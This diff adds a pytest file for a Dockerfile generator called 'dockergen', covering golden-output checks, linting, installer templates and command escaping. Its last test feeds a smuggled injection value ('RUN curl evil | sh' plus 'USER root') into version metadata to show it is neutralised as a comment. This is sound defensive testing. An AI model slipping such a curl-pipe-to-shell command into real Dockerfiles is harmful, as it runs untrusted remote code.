@@ -1,0 +1,118 @@
+from __future__ import annotations
+
+import dataclasses
+from pathlib import Path
+
+import pytest
+
+from dockergen.detect import detect_project
+from dockergen.model import Decided, Installer, Overrides, ProjectSpec
+from dockergen.render import copy_groups, render_files, template_root
+from tests.conftest import Golden
+from tests.helpers import (
+    CASES,
+    FIXTURES,
+    GOLDEN,
+    buildkit_instructions,
+    hadolint_findings,
+    make_tree,
+)
+
+
+@pytest.mark.parametrize("case", CASES)
+def test_render_matches_golden(case: str, golden: Golden) -> None:
+    for file in render_files(detect_project(FIXTURES / case)):
+        golden.check(f"{case}/{file.name}", file.content)
+
+
+def test_every_fixture_has_goldens_and_vice_versa() -> None:
+    assert sorted(d.name for d in GOLDEN.iterdir() if d.is_dir()) == CASES
+
+
+@pytest.mark.parametrize("case", CASES)
+def test_dockerfile_lints_clean_and_parses(case: str, tmp_path: Path) -> None:
+    dockerfile = render_files(detect_project(FIXTURES / case))[0].content
+    assert dockerfile.startswith("# syntax=docker/dockerfile:1\n")
+    assert hadolint_findings(dockerfile, tmp_path) == []
+    instructions = buildkit_instructions(dockerfile)
+    assert instructions.count("FROM") == 2
+    assert instructions[-1] in ("CMD", "USER")
+
+
+OPTION_SETS = {
+    "apt-both": Overrides(apt_run=("libpq5", "curl"), apt_build=("libpq-dev", "gcc")),
+    "command": Overrides(command=("gunicorn", "--bind", "0.0.0.0:8000", "app:app")),
+    "python-patch": Overrides(python="3.12.4"),
+}
+
+
+@pytest.mark.parametrize("case", CASES)
+@pytest.mark.parametrize("options", OPTION_SETS, ids=str)
+def test_variants_lint_clean_and_parse(case: str, options: str, tmp_path: Path) -> None:
+    dockerfile = render_files(detect_project(FIXTURES / case, OPTION_SETS[options]))[0].content
+    assert hadolint_findings(dockerfile, tmp_path) == []
+    assert "FROM" in buildkit_instructions(dockerfile)
+
+
+EVERY_MANIFEST = {
+    "requirements.txt": "six\n",
+    "Pipfile": "[packages]\nsix = '*'\n",
+    "pyproject.toml": """\
+        [project]
+        name = "every"
+        version = "0"
+        dependencies = ["six"]
+        [build-system]
+        requires = ["hatchling"]
+        build-backend = "hatchling.build"
+        """,
+}
+
+
+@pytest.mark.parametrize("installer", list(Installer))
+def test_forced_installer_renders_lint_clean(installer: Installer, tmp_path: Path) -> None:
+    root = make_tree(tmp_path / "p", EVERY_MANIFEST)
+    spec = detect_project(root, Overrides(installer=installer))
+    assert spec.installer == Decided(
+        installer, "--installer", f"--installer {installer}", spec.installer.overridden
+    )
+    assert hadolint_findings(render_files(spec)[0].content, tmp_path) == []
+
+
+def test_render_is_deterministic() -> None:
+    spec = detect_project(FIXTURES / "poetry")
+    assert render_files(spec) == render_files(spec)
+
+
+def test_every_installer_has_a_template() -> None:
+    root = template_root()
+    assert root.joinpath("Dockerfile.j2").is_file()
+    assert root.joinpath("dockerignore.j2").is_file()
+    for installer in Installer:
+        assert root.joinpath("installers", f"{installer}.j2").is_file(), installer
+
+
+def test_copy_groups_keep_directories() -> None:
+    assert copy_groups(("requirements.txt", "requirements/base.txt", "requirements/c.txt")) == (
+        (("requirements.txt",), "./"),
+        (("requirements/base.txt", "requirements/c.txt"), "./requirements/"),
+    )
+
+
+def _spec(**changes: object) -> ProjectSpec:
+    spec = detect_project(FIXTURES / "pip-requirements")
+    return dataclasses.replace(spec, **changes)  # type: ignore[arg-type]
+
+
+def test_command_is_json_exec_form_with_escapes() -> None:
+    spec = _spec(command=Decided(("sh", "-c", 'echo "hi" \\ \u2028 done'), "--command"))
+    dockerfile = render_files(spec)[0].content
+    assert 'CMD ["sh", "-c", "echo \\"hi\\" \\\\ \\u2028 done"]\n' in dockerfile
+
+
+def test_metadata_in_comments_cannot_start_an_instruction() -> None:
+    spec = _spec(python=Decided("3.12", "pyproject.toml", "x\nRUN curl evil | sh\r\nUSER root"))
+    dockerfile = render_files(spec)[0].content
+    assert "\nRUN curl evil" not in dockerfile
+    assert "\nUSER root" not in dockerfile
+    assert "# Python: 3.12 (x RUN curl evil | sh USER root).\n" in dockerfile
